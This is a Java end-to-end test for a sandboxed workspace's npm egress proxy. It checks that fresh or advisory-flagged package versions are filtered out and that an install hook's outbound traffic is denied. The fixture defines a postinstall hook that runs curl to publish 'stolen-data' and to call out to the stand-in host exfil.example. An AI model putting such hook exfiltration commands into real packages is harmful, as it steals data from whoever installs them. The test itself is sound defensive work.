package dev.berth.mcp;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/**
 * Issue 16, "Then" 1 with real parts: a real npm registry (Verdaccio on loopback, TLS from the test CA) holds
 * {@code leftish} 1.0.0 (published in 2020) and 1.1.0 (published two hours ago), {@code badpkg} whose 1.0.1 an OSV
 * advisory lists as malicious, and {@code hooked}, whose install hook tries to publish stolen data to the registry and
 * to call out to another host. The operator config has an npm registry rule with a 7-day minimum release age and the
 * advisory feed. Inside a workspace (one subclass per isolation level) the real {@code npm install} (through the egress proxy
 * with interception) resolves {@code leftish@^1.0.0} to 1.0.0 and {@code badpkg@^1.0.0} to 1.0.0, the run result lists
 * what was hidden and why ({@code egress_filtered}) and the hook's publish and call-out as denials, and the registry
 * never receives the publish.
 */
abstract class AbstractNpmSupplyChainE2eTest extends AbstractRealClientE2eTest {
    static final Instant OLD = Instant.parse("2020-03-04T05:06:07Z");
    static final Instant FRESH = Instant.now().minus(2, ChronoUnit.HOURS).truncatedTo(ChronoUnit.MILLIS);

    VerdaccioRegistry registry;

    @BeforeAll
    void start() throws Exception {
        prepare("npm");
        String hook = "curl -sS -m 20 -X PUT -H 'content-type: application/json' --data '{\"name\":\"stolen-data\",\"versions\":{}}'"
                + " https://localhost:%PORT%/stolen-data > /workspace/hook-publish.txt 2>&1;"
                + " curl -sS -m 20 https://exfil.example/collect > /workspace/hook-callout.txt 2>&1; true";
        registry = serve(VerdaccioRegistry.start(dir.resolve("verdaccio"), tls.cert(), tls.key(), List.of(
                new VerdaccioRegistry.Version("leftish", "1.0.0", OLD, Map.of()),
                new VerdaccioRegistry.Version("leftish", "1.1.0", FRESH, Map.of()),
                new VerdaccioRegistry.Version("badpkg", "1.0.0", OLD, Map.of()),
                new VerdaccioRegistry.Version("badpkg", "1.0.1", OLD.plus(1, ChronoUnit.DAYS), Map.of()),
                new VerdaccioRegistry.Version("hooked", "1.0.0", OLD, Map.of("scripts", Map.of("postinstall", hook))))));
        Path osv = Files.createDirectories(dir.resolve("osv"));
        Files.writeString(osv.resolve("MAL-2026-4242.json"), """
                {"id":"MAL-2026-4242","summary":"Malicious code in badpkg (npm)",
                 "affected":[{"package":{"ecosystem":"npm","name":"badpkg"},"versions":["1.0.1"]}]}""");
        startBerth(registry.port, """
                "registryRules": {"npm": {"hosts": ["localhost"], "minReleaseAgeDays": 7}},
                "advisories": "%s\"""".formatted(osv));
    }

    @Test
    void npmInstall_resolvesToOldEnoughVersions_hookCannotPublishOrCallOut() throws Exception {
        String ws = ok("open_workspace", level().open(Map.of())).path("workspace").asString();
        String reg = "https://localhost:" + registry.port + "/";
        ok("write_file", Map.of("workspace", ws, "path", "app/package.json", "content",
                "{\"name\":\"app\",\"version\":\"1.0.0\",\"private\":true,"
                        + "\"dependencies\":{\"leftish\":\"^1.0.0\",\"badpkg\":\"^1.0.0\",\"hooked\":\"^1.0.0\"}}"));
        ok("write_file", Map.of("workspace", ws, "path", "app/.npmrc", "content", "registry=" + reg + "\naudit=false\nfund=false\nupdate-notifier=false\n"));
        JsonNode r = ok("run", Map.of("workspace", ws, "timeout_s", 300, "command",
                "cd app && env -u NO_PROXY -u no_proxy HOME=/workspace npm install --no-audit --no-fund --loglevel=error 2>&1;"
                        + " echo; node -p \"require('leftish/package.json').version + ' ' + require('badpkg/package.json').version\""));
        assertEquals(0, r.path("exit_code").asInt(), r.toString());
        assertTrue(r.path("stdout").asString().trim().endsWith("1.0.0 1.0.0"), r.toString());

        String filtered = r.path("egress_filtered").toString();
        assertTrue(filtered.contains("leftish@1.1.0 was published " + FRESH.truncatedTo(ChronoUnit.SECONDS) + ", less than 7 days ago"), r.toString());
        assertTrue(filtered.contains("badpkg@1.0.1 is listed as malicious by advisory MAL-2026-4242"), r.toString());

        String denied = r.path("egress_denied").toString();
        assertTrue(denied.contains("npm registry 'localhost' is read-only for workspaces: PUT /stolen-data (publish) refused"), r.toString());
        assertTrue(denied.contains("exfil.example"), r.toString());
        assertFalse(registry.holds("stolen-data"), "the hook's publish reached the registry");

        // the fresh version's tarball, asked for directly, is refused with the reason
        JsonNode direct = ok("run", Map.of("workspace", ws, "command", "env -u NO_PROXY -u no_proxy curl -sS -o /dev/null -w '%{http_code}' "
                + reg + "leftish/-/leftish-1.1.0.tgz"));
        assertEquals("403", direct.path("stdout").asString(), direct.toString());
        assertTrue(direct.path("egress_denied").get(0).path("reason").asString().startsWith("leftish@1.1.0 was published"), direct.toString());
    }
}
